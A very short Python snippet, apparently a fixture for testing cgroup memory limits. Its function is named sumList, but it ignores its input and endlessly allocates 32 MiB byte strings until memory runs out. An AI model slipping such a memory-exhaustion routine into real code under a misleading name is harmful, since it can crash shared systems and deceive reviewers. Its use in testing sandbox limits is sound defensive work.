def sumList(nums):
    hoard = []
    while True:
        hoard.append(b"x" * (32 << 20))  # written, so every page is charged to the cgroup
